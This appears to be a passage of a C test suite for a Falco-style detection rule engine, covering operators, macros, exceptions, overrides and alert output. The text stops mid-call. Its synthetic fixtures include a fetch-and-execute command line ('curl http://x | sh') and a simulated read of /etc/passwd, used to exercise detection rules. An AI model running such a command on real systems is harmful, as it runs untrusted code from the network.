/*
 * rules_test — the Falco-format rule engine (worker/rules.h): operators,
 * precedence, macros, lists, exceptions, append/override across files,
 * enabling, engine versions, outputs and output_fields, field rendering,
 * CIDR checks, the evt.type index, load errors with FILE:LINE, and that
 * evaluation allocates nothing (malloc is wrapped by the linker).
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <arpa/inet.h>
#include <unistd.h>

#include "harness.h"
#include "rules.h"
#include "util.h"

/* ---- allocation counting (-Wl,--wrap=malloc,--wrap=calloc,--wrap=realloc) */

void *__real_malloc(size_t n);
void *__real_calloc(size_t n, size_t sz);
void *__real_realloc(void *p, size_t n);
void *__wrap_malloc(size_t n);
void *__wrap_calloc(size_t n, size_t sz);
void *__wrap_realloc(void *p, size_t n);

static volatile unsigned long allocs; /* volatile: GCC assumes malloc leaves globals alone */

void *__wrap_malloc(size_t n)
{
	allocs++;
	return __real_malloc(n);
}

void *__wrap_calloc(size_t n, size_t sz)
{
	allocs++;
	return __real_calloc(n, sz);
}

void *__wrap_realloc(void *p, size_t n)
{
	allocs++;
	return __real_realloc(p, n);
}

/* ---- fixtures --------------------------------------------------------- */

static char dir[64];

static struct sf_proc p_init = {.pid = 100,
				.ppid = 1,
				.vpid = 1,
				.name = "bash",
				.exe = "/bin/bash",
				.exepath = "/bin/bash",
				.args = "-l",
				.cwd = "/"};
static struct sf_proc p_npm = {.pid = 200,
			       .ppid = 100,
			       .vpid = 2,
			       .uid = 1000,
			       .gid = 1000,
			       .name = "npm",
			       .exe = "npm",
			       .exepath = "/usr/bin/node",
			       .args = "install",
			       .cwd = "/work/",
			       .parent = &p_init};
static struct sf_proc p_sh = {.pid = 300,
			      .ppid = 200,
			      .vpid = 3,
			      .uid = 1000,
			      .gid = 1000,
			      .name = "sh",
			      .exe = "sh",
			      .exepath = "/bin/sh",
			      .args = "-c curl http://x | sh",
			      .cwd = "/work/pkg/",
			      .exe_writable = false,
			      .parent = &p_npm};

static struct sf_event file_ev(void)
{
	struct sf_event ev = {
	    .type = "openat",
	    .time_ns = 1700000000123456789LL,
	    .res = 3,
	    .proc = &p_sh,
	    .fd_type = SF_FD_FILE,
	    .fd_name = "/etc/passwd",
	    .open_flags = O_RDONLY | O_CLOEXEC,
	    .is_open_read = true,
	    .args = {{"fd", "3"},
		     {"dirfd", "AT_FDCWD"},
		     {"name", "/etc/passwd"},
		     {"flags", "O_RDONLY|O_CLOEXEC"}},
	    .nargs = 4,
	    .container_id = "c0ffee123456",
	    .container_name = "sf-job-1",
	    .container_image = "scanfarm/sandbox",
	    .user_name = "node",
	    .user_id = 1000,
	};
	return ev;
}

static void endpoint(struct sf_endpoint *e, const char *ip, uint16_t port)
{
	memset(e, 0, sizeof(*e));
	if (strchr(ip, ':')) {
		e->family = AF_INET6;
		inet_pton(AF_INET6, ip, e->addr);
	} else {
		e->family = AF_INET;
		inet_pton(AF_INET, ip, e->addr);
	}
	e->port = port;
}

static struct sf_event connect_ev(void)
{
	struct sf_event ev = {
	    .type = "connect",
	    .time_ns = 1700000001000000000LL,
	    .res = -115,
	    .proc = &p_sh,
	    .fd_type = SF_FD_IPV4,
	    .fd_name = "172.17.0.2:40000->198.51.100.7:443",
	    .l4proto = "tcp",
	    .args = {{"fd", "4"}, {"addr", "198.51.100.7:443"}},
	    .nargs = 2,
	    .container_id = "c0ffee123456",
	};
	endpoint(&ev.client, "172.17.0.2", 40000);
	endpoint(&ev.server, "198.51.100.7", 443);
	return ev;
}

static struct sf_event accept_ev(void)
{
	struct sf_event ev = connect_ev();
	ev.type = "accept";
	ev.res = 5;
	ev.is_server = true;
	endpoint(&ev.client, "10.1.2.3", 51000);
	endpoint(&ev.server, "127.0.0.1", 8080);
	ev.fd_name = "10.1.2.3:51000->127.0.0.1:8080";
	return ev;
}

static void write_file(const char *name, const char *text)
{
	char path[256];
	snprintf(path, sizeof(path), "%s/%s", dir, name);
	if (sf_write_file(path, text, strlen(text)) != 0) {
		fprintf(stderr, "cannot write %s\n", path);
		exit(1);
	}
}

/* Loads files (names inside dir) in order. */
static int load(struct sf_ruleset **rs, char *err, size_t errlen, const char *a, const char *b,
		const char *c)
{
	char pa[256], pb[256], pc[256];
	const char *paths[3];
	size_t n = 0;
	snprintf(pa, sizeof(pa), "%s/%s", dir, a);
	paths[n++] = pa;
	if (b) {
		snprintf(pb, sizeof(pb), "%s/%s", dir, b);
		paths[n++] = pb;
	}
	if (c) {
		snprintf(pc, sizeof(pc), "%s/%s", dir, c);
		paths[n++] = pc;
	}
	err[0] = '\0';
	return sf_rules_load(rs, paths, n, err, errlen);
}

/* Loads one rule "t" with condition cond (after prelude) and evaluates it
 * for ev: 1 match, 0 no match, -1 load error (printed). */
static int eval_cond(const char *prelude, const char *cond, const struct sf_event *ev)
{
	char yaml[16384], err[512];
	snprintf(
	    yaml, sizeof(yaml),
	    "%s\n- rule: t\n  desc: t\n  condition: |-\n    %s\n  output: o\n  priority: info\n",
	    prelude ? prelude : "", cond);
	struct sf_ruleset *rs;
	if (sf_rules_load_buffer(&rs, "cond.yaml", yaml, strlen(yaml), err, sizeof(err)) != 0) {
		fprintf(stderr, "  load error: %s\n", err);
		return -1;
	}
	struct sf_rules_ctx *ctx = malloc(sizeof(*ctx));
	sf_rules_ctx_init(ctx);
	int m = sf_rules_eval(rs, ctx, ev, NULL, NULL);
	free(ctx);
	sf_rules_free(rs);
	return m;
}

#define EXPECT(prelude, ev, want, cond)                                                            \
	do {                                                                                       \
		int r_ = eval_cond((prelude), (cond), (ev));                                       \
		if (r_ != (want))                                                                  \
			fprintf(stderr, "  condition: %s -> %d, want %d\n", (cond), r_, (want));   \
		CHECK_EQ(r_, (want));                                                              \
	} while (0)

/* Loads text as one file and expects an error that starts with "NAME:LINE:"
 * and contains needle. */
static void expect_error(const char *name, const char *text, unsigned line, const char *needle,
			 int line_no)
{
	char err[1024], prefix[128];
	struct sf_ruleset *rs;
	write_file(name, text);
	int rc = load(&rs, err, sizeof(err), name, NULL, NULL);
	snprintf(prefix, sizeof(prefix), "%s/%s:%u: ", dir, name, line);
	bool ok = rc < 0 && strncmp(err, prefix, strlen(prefix)) == 0 && strstr(err, needle);
	if (!ok)
		fprintf(stderr, "rules_test.c:%d: %s: rc %d, error '%s', want '%s...%s'\n", line_no,
			name, rc, err, prefix, needle);
	if (rc == 0)
		sf_rules_free(rs);
	CHECK(ok);
}

#define EXPECT_ERROR(name, text, line, needle)                                                     \
	expect_error((name), (text), (line), (needle), __LINE__)

/* ---- tests ------------------------------------------------------------ */

static void test_operators(void)
{
	struct sf_event f = file_ev(), c = connect_ev();
	/* = == != */
	EXPECT(NULL, &f, 1, "evt.type = openat");
	EXPECT(NULL, &f, 1, "evt.type == openat");
	EXPECT(NULL, &f, 0, "evt.type = execve");
	EXPECT(NULL, &f, 1, "proc.name != bash");
	EXPECT(NULL, &f, 0, "proc.name != sh");
	EXPECT(NULL, &f, 1, "proc.name=sh");
	/* numeric */
	EXPECT(NULL, &f, 1, "proc.pid = 300");
	EXPECT(NULL, &f, 1, "proc.pid < 301");
	EXPECT(NULL, &f, 0, "proc.pid < 300");
	EXPECT(NULL, &f, 1, "proc.pid <= 300");
	EXPECT(NULL, &f, 0, "proc.pid <= 299");
	EXPECT(NULL, &f, 1, "proc.pid > 299");
	EXPECT(NULL, &f, 0, "proc.pid > 300");
	EXPECT(NULL, &f, 1, "proc.pid >= 300");
	EXPECT(NULL, &f, 0, "proc.pid >= 301");
	EXPECT(NULL, &f, 1, "proc.pid in (1, 300, 0x10)");
	EXPECT(NULL, &f, 0, "proc.pid in (1, 2, 0x10)");
	EXPECT(NULL, &c, 1, "evt.rawres < 0");
	EXPECT(NULL, &c, 1, "user.uid = 1000 and group.gid = 1000 and user.loginuid = -1");
	/* strings */
	EXPECT(NULL, &f, 1, "fd.name contains passw");
	EXPECT(NULL, &f, 0, "fd.name contains shadow");
	EXPECT(NULL, &f, 1, "fd.name icontains PASSWD");
	EXPECT(NULL, &f, 0, "fd.name icontains SHADOW");
	EXPECT(NULL, &f, 1, "fd.name startswith /etc/");
	EXPECT(NULL, &f, 0, "fd.name startswith /usr");
	EXPECT(NULL, &f, 1, "fd.name endswith wd");
	EXPECT(NULL, &f, 0, "fd.name endswith .sh");
	EXPECT(NULL, &f, 1, "proc.name > 5"); /* strings compare as strings */
	EXPECT(NULL, &f, 0, "proc.name < 5");
	/* glob: fnmatch without flags, '*' crosses '/' */
	EXPECT(NULL, &f, 1, "fd.name glob /etc/pass*");
	EXPECT(NULL, &f, 1, "fd.name glob '/*/passw?'");
	EXPECT(NULL, &f, 1, "fd.name glob /e*d");
	EXPECT(NULL, &f, 1, "fd.name glob '/etc/[a-p]asswd'");
	EXPECT(NULL, &f, 0, "fd.name glob '/etc/[!p]asswd'");
	EXPECT(NULL, &f, 1, "fd.name glob '/etc/[[:alpha:]]asswd'");
	EXPECT(NULL, &f, 0, "fd.name glob /etc/shadow*");
	EXPECT(NULL, &f, 0, "fd.name glob /ETC/*");
	EXPECT(NULL, &f, 1, "fd.name iglob /ETC/PASS*");
	/* in / intersects / pmatch */
	EXPECT(NULL, &f, 1, "proc.name in (bash, sh, zsh)");
	EXPECT(NULL, &f, 0, "proc.name in (bash, zsh)");
	EXPECT(NULL, &f, 1, "proc.name intersects (sh)");
	EXPECT(NULL, &f, 0, "proc.name intersects (dash)");
	EXPECT(NULL, &f, 0, "proc.name in ()");
	EXPECT(NULL, &f, 1, "fd.name pmatch (/usr/bin, /etc)");
	EXPECT(NULL, &f, 1, "fd.name pmatch (/etc/)");
	EXPECT(NULL, &f, 1, "fd.name pmatch (/etc/passwd)");
	EXPECT(NULL, &f, 1, "fd.name pmatch (/)");
	EXPECT(NULL, &f, 0, "fd.name pmatch (/et, /usr)");
	EXPECT(NULL, &f, 0, "fd.name pmatch (/etc/passwd/x)");
	/* a large set is searched, not scanned */
	char big[8192];
	size_t off = (size_t)snprintf(big, sizeof(big), "proc.name in (");
	for (int i = 0; i < 300; i++)
		off += (size_t)snprintf(big + off, sizeof(big) - off, "name%d, ", i);
	snprintf(big + off, sizeof(big) - off, "sh, zzz)");
	EXPECT(NULL, &f, 1, big);
	big[off] = '\0';
	snprintf(big + off, sizeof(big) - off, "zzz)");
	EXPECT(NULL, &f, 0, big);
	/* exists */
	EXPECT(NULL, &f, 1, "fd.name exists");
	EXPECT(NULL, &f, 0, "fd.sip exists");
	EXPECT(NULL, &c, 1, "fd.sip exists");
	EXPECT(NULL, &f, 1, "evt.arg.flags exists");
	EXPECT(NULL, &f, 0, "evt.arg.nope exists");
	/* booleans */
	EXPECT(NULL, &f, 1, "evt.is_open_read = true");
	EXPECT(NULL, &f, 0, "evt.is_open_write = true");
	EXPECT(NULL, &f, 1, "evt.is_open_write = false and evt.failed = false");
	EXPECT(NULL, &c, 1, "evt.failed = true");
	EXPECT(NULL, &f, 1, "proc.is_exe_writable != true");
	/* evt.res and friends */
	EXPECT(NULL, &f, 1, "evt.res = SUCCESS");
	EXPECT(NULL, &c, 1, "evt.res = EINPROGRESS");
	EXPECT(NULL, &c, 1, "evt.res in (ENOENT, EINPROGRESS)");
	EXPECT(NULL, &f, 1, "evt.dir = <");
	EXPECT(NULL, &f, 1, "evt.arg.flags contains O_RDONLY and evt.arg[3] = O_RDONLY|O_CLOEXEC");
	EXPECT(NULL, &f, 1, "evt.arg[name] = /etc/passwd");
	/* quoting */
	EXPECT(NULL, &f, 1, "proc.args contains \"curl http\"");
	EXPECT(NULL, &f, 1, "proc.args contains 'x | sh'");
	EXPECT(NULL, &f, 1, "proc.cmdline = \"sh -c curl http://x | sh\"");
	EXPECT(NULL, &f, 0, "proc.args contains \"\\\"\"");
}

static void test_missing(void)
{
	struct sf_event f = file_ev();
	/* a missing field makes every check false, != included (Falco) */
	EXPECT(NULL, &f, 0, "fd.sip = 198.51.100.7");
	EXPECT(NULL, &f, 0, "fd.sip != 198.51.100.7");
	EXPECT(NULL, &f, 1, "not fd.sip = 198.51.100.7");
	EXPECT(NULL, &f, 0, "evt.arg.nope != x");
	EXPECT(NULL, &f, 0, "sf.dns.name != x");
	EXPECT(NULL, &f, 0, "fd.sport in (1, 2)");
	EXPECT(NULL, &f, 0, "fd.l4proto startswith t");
	struct sf_event orphan = f;
	orphan.proc = &p_init; /* no parent */
	EXPECT(NULL, &orphan, 0, "proc.pname != x");
	EXPECT(NULL, &orphan, 0, "proc.aname != x");
	EXPECT(NULL, &orphan, 1, "proc.aname[0] = bash");
}

static void test_precedence(void)
{
	struct sf_event f = file_ev();
	const char *m = "- macro: yes\n  condition: proc.name = sh\n"
			"- macro: no\n  condition: proc.name = nope\n";
	/* not > and > or */
	EXPECT(m, &f, 1, "yes or no and no"); /* yes or (no and no) */
	EXPECT(m, &f, 0, "(yes or no) and no");
	EXPECT(m, &f, 0, "not yes and no"); /* (not yes) and no */
	EXPECT(m, &f, 1, "not no and yes");
	EXPECT(m, &f, 1, "not (yes and no)");
	EXPECT(m, &f, 0, "not (yes or no)");
	EXPECT(m, &f, 1, "not not yes");
	EXPECT(m, &f, 1, "not(no)");
	EXPECT(m, &f, 1, "yes and(yes or no)");
	EXPECT(m, &f, 1, "no or(yes)");
	EXPECT(m, &f, 1, "((yes) and ((not no)))");
	EXPECT(m, &f, 1, "no or no or yes");
	EXPECT(m, &f, 0, "yes and yes and no");
	EXPECT(NULL, &f, 1, "proc.name=sh and(fd.name=/etc/passwd)");
}

static void test_macros_lists(void)
{
	struct sf_event f = file_ev();
	const char *pre = "- list: shells\n  items: [bash, sh]\n"
			  "- list: all_shells\n  items: [shells, zsh, \"fish\"]\n"
			  "- list: nested\n  items: [all_shells, ksh]\n"
			  "- list: sensitive\n  items: [/etc/passwd, /etc/shadow]\n"
			  "- macro: is_shell\n  condition: proc.name in (all_shells)\n"
			  "- macro: reads_sensitive\n  condition: fd.name in (sensitive) and "
			  "evt.is_open_read = true\n"
			  "- macro: shell_reads\n  condition: is_shell and reads_sensitive\n"
			  "- macro: later_use\n  condition: defined_later\n"
			  "- macro: defined_later\n  condition: proc.pid = 300\n";
	EXPECT(pre, &f, 1, "shell_reads");
	EXPECT(pre, &f, 1, "later_use");
	EXPECT(pre, &f, 1, "proc.name in (nested)");
	EXPECT(pre, &f, 1, "proc.name in nested");
	EXPECT(pre, &f, 1, "proc.name in (ksh, shells)");
	EXPECT(pre, &f, 0, "proc.name in (zsh, fish)");
	EXPECT(pre, &f, 0, "proc.name in (\"shells\")"); /* quoted: not a list name */
	EXPECT(pre, &f, 0, "proc.name in (not_a_list)"); /* undefined bare name: a literal */
	EXPECT(pre, &f, 1, "not proc.name in (not_a_list, bash)");
	EXPECT(pre, &f, 1, "fd.name pmatch (sensitive)");
	EXPECT(pre, &f, 0, "not shell_reads");
}

/* Records which rule matched: 1 for "read passwd", 2 for "read passwd 2". */
static void on_match_name(void *arg, const struct sf_rule *rule, const struct sf_event *ev)
{
	(void)ev;
	*(int *)arg = strcmp(sf_rule_name(rule), "read passwd") == 0 ? 1 : 2;
}

static void test_exceptions(void)
{
	struct sf_event f = file_ev();
	char err[1024];
	struct sf_ruleset *rs;
	write_file("exc.yaml", "- rule: read passwd\n"
			       "  desc: d\n"
			       "  condition: fd.name = /etc/passwd\n"
			       "  output: o\n"
			       "  priority: warning\n"
			       "  exceptions:\n"
			       "    - name: by_proc_and_dir\n"
			       "      fields: [proc.name, fd.directory]\n"
			       "      comps: [=, startswith]\n"
			       "      values:\n"
			       "        - [bash, /etc]\n"
			       "    - name: by_name\n"
			       "      fields: proc.name\n"
			       "      values: [dash, \"not me\"]\n"
			       "    - name: by_tuple_list\n"
			       "      fields: [proc.pname, proc.cwd]\n"
			       "      comps: [in, pmatch]\n"
			       "      values:\n"
			       "        - [[yarn, pnpm], [/work]]\n"
			       "- rule: read passwd 2\n"
			       "  desc: d\n"
			       "  condition: fd.name = /etc/passwd\n"
			       "  output: o\n"
			       "  priority: warning\n"
			       "  exceptions:\n"
			       "    - name: single\n"
			       "      fields: proc.name\n"
			       "      comps: in\n"
			       "      values: [sh]\n");
	int rc = load(&rs, err, sizeof(err), "exc.yaml", NULL, NULL);
	CHECK_EQ(rc, 0);
	if (rc) {
		fprintf(stderr, "%s\n", err);
		return;
	}
	struct sf_rules_ctx ctx;
	sf_rules_ctx_init(&ctx);
	CHECK_EQ(sf_rules_eval(rs, &ctx, &f, NULL, NULL), 1); /* only "read passwd" */
	const struct sf_rule *r = sf_rules_find(rs, "read passwd");
	CHECK(r && strstr(sf_rule_condition(r),
			  "and not ((proc.name = bash and fd.directory startswith /etc))"));
	CHECK(r && strstr(sf_rule_condition(r), "and not (proc.name in (dash, \"not me\"))"));
	CHECK(r && strstr(sf_rule_condition(r),
			  "proc.pname in (yarn, pnpm) and proc.cwd pmatch (/work)"));
	sf_rules_free(rs);

	/* the exceptions are applied: one matching value per form */
	struct sf_event g = f;
	struct sf_proc p = p_sh;
	g.proc = &p;
	snprintf(p.name, sizeof(p.name), "bash");
	write_file("exc2.yaml",
		   "- rule: read passwd\n  exceptions:\n    - name: by_name\n      values: [sh]\n"
		   "    - name: new_one\n      fields: [proc.pid]\n      values: [[12345]]\n  "
		   "append: true\n");
	rc = load(&rs, err, sizeof(err), "exc.yaml", "exc2.yaml", NULL);
	CHECK_EQ(rc, 0);
	if (!rc) {
		CHECK_EQ(sf_rules_eval(rs, &ctx, &f, NULL, NULL),
			 0); /* sh is now excepted by both */
		struct sf_rules_ctx c2;
		sf_rules_ctx_init(&c2);
		/* bash reading in /etc: rule 1 has by_proc_and_dir, rule 2 only excepts sh */
		int m = 0;
		CHECK_EQ(sf_rules_eval(rs, &c2, &g, on_match_name, &m), 1);
		CHECK_EQ(m, 2);
		p.pid = 12345;
		snprintf(p.name, sizeof(p.name), "cat");
		CHECK_EQ(sf_rules_eval(rs, &c2, &g, NULL, NULL), 1); /* "read passwd 2" only */
		const struct sf_rule *r2 = sf_rules_find(rs, "read passwd");
		CHECK(r2 && strstr(sf_rule_condition(r2), "proc.name in (dash, \"not me\", sh)"));
		CHECK(r2 && strstr(sf_rule_condition(r2), "(proc.pid = 12345)"));
		sf_rules_free(rs);
	}
	/* override: exceptions replace */
	write_file(
	    "exc3.yaml",
	    "- rule: read passwd 2\n  exceptions: []\n  override:\n    exceptions: replace\n");
	rc = load(&rs, err, sizeof(err), "exc.yaml", "exc3.yaml", NULL);
	CHECK_EQ(rc, 0);
	if (!rc) {
		CHECK_EQ(sf_rules_eval(rs, &ctx, &f, NULL, NULL),
			 2); /* rule 2 no longer excepts sh */
		CHECK(strcmp(sf_rule_condition(sf_rules_find(rs, "read passwd 2")),
			     "fd.name = /etc/passwd") == 0);
		sf_rules_free(rs);
	}
	/* override: exceptions append */
	write_file("exc4.yaml",
		   "- rule: read passwd 2\n  exceptions:\n    - name: single\n      values: [cat]\n"
		   "  override:\n    exceptions: append\n");
	rc = load(&rs, err, sizeof(err), "exc.yaml", "exc4.yaml", NULL);
	CHECK_EQ(rc, 0);
	if (!rc) {
		CHECK(strstr(sf_rule_condition(sf_rules_find(rs, "read passwd 2")),
			     "proc.name in (sh, cat)") != NULL);
		sf_rules_free(rs);
	}
}

static void test_append_override(void)
{
	struct sf_event f = file_ev();
	char err[1024];
	struct sf_ruleset *rs;
	write_file("base.yaml",
		   "- list: procs\n  items: [bash]\n"
		   "- macro: m\n  condition: proc.name in (procs)\n"
		   "- rule: r\n  desc: base\n  condition: m\n  output: 'proc %proc.name'\n"
		   "  priority: notice\n  tags: [a]\n"
		   "- rule: other\n  desc: d\n  condition: evt.type = openat\n  output: o\n  "
		   "priority: debug\n");
	/* old style */
	write_file("old.yaml",
		   "- list: procs\n  items: [sh]\n  append: true\n"
		   "- macro: m\n  condition: and fd.name = /etc/passwd\n  append: true\n"
		   "- rule: r\n  condition: and evt.type = openat\n  append: true\n");
	int rc = load(&rs, err, sizeof(err), "base.yaml", "old.yaml", NULL);
	CHECK_EQ(rc, 0);
	if (!rc) {
		struct sf_rules_ctx ctx;
		sf_rules_ctx_init(&ctx);
		CHECK_EQ(sf_rules_eval(rs, &ctx, &f, NULL, NULL), 2);
		const struct sf_rule *r = sf_rules_find(rs, "r");
		CHECK(r && strcmp(sf_rule_condition(r), "m and evt.type = openat") == 0);
		CHECK(r && !sf_rule_all_types(r));
		struct sf_event c = connect_ev();
		CHECK_EQ(sf_rules_eval(rs, &ctx, &c, NULL, NULL), 0);
		sf_rules_free(rs);
	}
	/* new style */
	write_file("new.yaml",
		   "- list: procs\n  items: [zsh, sh]\n  override:\n    items: replace\n"
		   "- macro: m\n  condition: proc.name in (procs) and proc.pid = 300\n"
		   "  override:\n    condition: replace\n"
		   "- rule: r\n  condition: and fd.name = /etc/passwd\n  output: '(new)'\n"
		   "  priority: critical\n  tags: [b]\n  desc: replaced\n"
		   "  override:\n    condition: append\n    output: append\n    priority: replace\n"
		   "    tags: append\n    desc: replace\n");
	rc = load(&rs, err, sizeof(err), "base.yaml", "new.yaml", NULL);
	CHECK_EQ(rc, 0);
	if (rc)
		fprintf(stderr, "%s\n", err);
	if (!rc) {
		struct sf_rules_ctx ctx;
		sf_rules_ctx_init(&ctx);
		CHECK_EQ(sf_rules_eval(rs, &ctx, &f, NULL, NULL), 2);
		const struct sf_rule *r = sf_rules_find(rs, "r");
		CHECK(r && sf_rule_priority(r) == SF_PRIO_CRITICAL);
		CHECK(r && strcmp(sf_rule_priority_name(r), "Critical") == 0);
		CHECK(r && strcmp(sf_rule_output(r), "proc %proc.name (new)") == 0);
		CHECK(r && strcmp(sf_rule_desc(r), "replaced") == 0);
		CHECK(r && sf_rule_ntags(r) == 2 && strcmp(sf_rule_tag(r, 1), "b") == 0);
		sf_rules_free(rs);
	}
	/* list append via override, redefinition replaces */
	write_file("new2.yaml", "- list: procs\n  items: [sh]\n  override:\n    items: append\n"
				"- rule: other\n  desc: d\n  condition: evt.type = execve\n  "
				"output: o\n  priority: debug\n");
	rc = load(&rs, err, sizeof(err), "base.yaml", "new2.yaml", NULL);
	CHECK_EQ(rc, 0);
	if (!rc) {
		struct sf_rules_ctx ctx;
		sf_rules_ctx_init(&ctx);
		CHECK_EQ(sf_rules_eval(rs, &ctx, &f, NULL, NULL),
			 1); /* r (bash, sh); other now execve */
		CHECK_EQ(sf_rules_total(rs), 2);
		CHECK(strcmp(sf_rule_name(sf_rules_at(rs, 0)), "r") == 0);
		sf_rules_free(rs);
	}
	/* override keys must match the given keys */
	write_file(
	    "badov.yaml",
	    "- rule: r\n  condition: and x\n  output: y\n  override:\n    condition: append\n");
	rc = load(&rs, err, sizeof(err), "base.yaml", "badov.yaml", NULL);
	CHECK(rc < 0 && strstr(err, "badov.yaml:3:") &&
	      strstr(err, "'output' has no entry under 'override'"));
	write_file("badov2.yaml",
		   "- rule: r\n  priority: info\n  override:\n    priority: append\n");
	rc = load(&rs, err, sizeof(err), "base.yaml", "badov2.yaml", NULL);
	CHECK(rc < 0 && strstr(err, "badov2.yaml:4:") && strstr(err, "cannot be appended"));
}

static void test_enabled(void)
{
	struct sf_event f = file_ev();
	char err[1024];
	struct sf_ruleset *rs;
	write_file("en1.yaml",
		   "- rule: off\n  desc: d\n  condition: evt.type = openat\n  output: o\n"
		   "  priority: info\n  enabled: false\n"
		   "- rule: on\n  desc: d\n  condition: evt.type = openat\n  output: o\n  "
		   "priority: info\n");
	write_file("en2.yaml", "- rule: off\n  enabled: true\n");
	write_file("en3.yaml", "- rule: on\n  enabled: false\n  override:\n    enabled: replace\n");
	int rc = load(&rs, err, sizeof(err), "en1.yaml", NULL, NULL);
	CHECK_EQ(rc, 0);
	if (!rc) {
		struct sf_rules_ctx ctx;
		sf_rules_ctx_init(&ctx);
		CHECK_EQ(sf_rules_count(rs), 1);
		CHECK_EQ(sf_rules_total(rs), 2);
		CHECK(!sf_rule_enabled(sf_rules_find(rs, "off")));
		CHECK_EQ(sf_rules_eval(rs, &ctx, &f, NULL, NULL), 1);
		CHECK_EQ(ctx.checks, 1); /* the disabled rule is never evaluated */
		sf_rules_free(rs);
	}
	rc = load(&rs, err, sizeof(err), "en1.yaml", "en2.yaml", NULL);
	CHECK_EQ(rc, 0);
	if (!rc) {
		struct sf_rules_ctx ctx;
		sf_rules_ctx_init(&ctx);
		CHECK_EQ(sf_rules_count(rs), 2);
		CHECK_EQ(sf_rules_eval(rs, &ctx, &f, NULL, NULL), 2);
		sf_rules_free(rs);
	}
	rc = load(&rs, err, sizeof(err), "en1.yaml", "en2.yaml", "en3.yaml");
	CHECK_EQ(rc, 0);
	if (!rc) {
		CHECK_EQ(sf_rules_count(rs), 1);
		CHECK(sf_rule_enabled(sf_rules_find(rs, "off")) &&
		      !sf_rule_enabled(sf_rules_find(rs, "on")));
		sf_rules_free(rs);
	}
}

static void test_versions_sources(void)
{
	char err[1024];
	struct sf_ruleset *rs;
	write_file(
	    "v1.yaml",
	    "- required_engine_version: 12\n- required_engine_version: 0.43.0\n"
	    "- required_plugin_versions:\n    - name: container\n      version: 0.1.0\n"
	    "- rule: k8s\n  desc: d\n  condition: ka.verb = create\n  output: o\n"
	    "  priority: info\n  source: k8s_audit\n"
	    "- rule: skipme\n  desc: d\n  condition: proc.name = a and nosuch.field = x\n  output: "
	    "o\n"
	    "  priority: info\n  skip-if-unknown-filter: true\n"
	    "- rule: skipme2\n  desc: d\n  condition: proc.name = a\n  output: '%nosuch.field'\n"
	    "  priority: info\n  skip-if-unknown-filter: true\n"
	    "- rule: kept\n  desc: d\n  condition: evt.type = openat\n  output: o\n  priority: "
	    "info\n");
	int rc = load(&rs, err, sizeof(err), "v1.yaml", NULL, NULL);
	CHECK_EQ(rc, 0);
	if (rc)
		fprintf(stderr, "%s\n", err);
	if (!rc) {
		CHECK_EQ(sf_rules_count(rs), 1);
		CHECK(sf_rules_find(rs, "k8s") == NULL && sf_rules_find(rs, "skipme") == NULL);
		CHECK(strstr(sf_rules_warnings(rs), "skipme2") != NULL);
		CHECK(strstr(sf_rules_warnings(rs), "source 'k8s_audit'") != NULL);
		sf_rules_free(rs);
	}
	EXPECT_ERROR(
	    "v2.yaml",
	    "- rule: a\n  desc: d\n  condition: evt.type = x\n  output: o\n  priority: info\n"
	    "- required_engine_version: 100\n",
	    6,
	    "rules require engine version 0.100.0, but engine version is " SF_RULES_ENGINE_VERSION);
	EXPECT_ERROR("v3.yaml", "\n- required_engine_version: 0.99.1\n", 2,
		     "rules require engine version 0.99.1");
	EXPECT_ERROR("v4.yaml", "- required_engine_version: 1.0.0\n", 1,
		     "rules require engine version 1.0.0");
	EXPECT_ERROR("v5.yaml", "- required_engine_version: banana\n", 1, "is not a version");
}

static void test_output(void)
{
	char err[1024];
	struct sf_ruleset *rs;
	write_file(
	    "out.yaml",
	    "- rule: Read sensitive file\n"
	    "  desc: d\n"
	    "  condition: evt.type = openat\n"
	    "  output: >\n"
	    "    Sensitive file opened (file=%fd.name parent=%proc.aname[1] gp=%proc.aname[2]\n"
	    "    cmd=%proc.cmdline sip=%fd.sip flags=%evt.arg.flags name=%(proc.name) "
	    "pad=[%5proc.name]\n"
	    "    cut=[%2fd.name] user=%user.name ctr=%container.id res=%evt.res "
	    "ancestors=%proc.aname.\n"
	    "    again=%fd.name)\n"
	    "  priority: ERROR\n"
	    "  tags: [filesystem, mitre_credential_access]\n");
	int rc = load(&rs, err, sizeof(err), "out.yaml", NULL, NULL);
	CHECK_EQ(rc, 0);
	if (rc) {
		fprintf(stderr, "%s\n", err);
		return;
	}
	struct sf_event f = file_ev();
	const struct sf_rule *r = sf_rules_find(rs, "Read sensitive file");
	struct sf_alert a;
	CHECK_EQ(sf_rules_alert(rs, r, &f, "worker-1", &a), 0);
	const char *want =
	    "Sensitive file opened (file=/etc/passwd parent=npm gp=bash cmd=sh -c curl http://x | "
	    "sh "
	    "sip=<NA> flags=O_RDONLY|O_CLOEXEC name=sh pad=[sh   ] cut=[/e] user=node "
	    "ctr=c0ffee123456 res=SUCCESS ancestors=npm bash. again=/etc/passwd)";
	if (strcmp(a.output, want) != 0)
		fprintf(stderr, "  output:\n  got  %s\n  want %s\n", a.output, want);
	CHECK(strcmp(a.output, want) == 0);
	CHECK(a.time_ns == f.time_ns);
	CHECK(strcmp(a.priority, "Error") == 0);
	CHECK(strcmp(a.rule, "Read sensitive file") == 0);
	CHECK(strcmp(a.source, "syscall") == 0);
	CHECK(strcmp(a.hostname, "worker-1") == 0);
	CHECK(a.ntags == 2 && strcmp(a.tags[0], "filesystem") == 0 &&
	      strcmp(a.tags[1], "mitre_credential_access") == 0);
	static const char *const keys[][2] = {
	    {"fd.name", "/etc/passwd"},
	    {"proc.aname[1]", "npm"},
	    {"proc.aname[2]", "bash"},
	    {"proc.cmdline", "sh -c curl http://x | sh"},
	    {"fd.sip", "<NA>"},
	    {"evt.arg.flags", "O_RDONLY|O_CLOEXEC"},
	    {"proc.name", "sh"},
	    {"user.name", "node"},
	    {"container.id", "c0ffee123456"},
	    {"evt.res", "SUCCESS"},
	    {"proc.aname", "npm bash"},
	};
	CHECK_EQ(a.nfields, sizeof(keys) / sizeof(keys[0]));
	for (size_t i = 0; i < a.nfields && i < sizeof(keys) / sizeof(keys[0]); i++) {
		bool ok = strcmp(a.fields[i].key, keys[i][0]) == 0 &&
			  strcmp(a.fields[i].value, keys[i][1]) == 0;
		if (!ok)
			fprintf(stderr, "  output_fields[%zu] = %s: %s\n", i, a.fields[i].key,
				a.fields[i].value);
		CHECK(ok);
	}
	sf_alert_free(&a);
	sf_rules_free(rs);

	EXPECT_ERROR(
	    "out2.yaml",
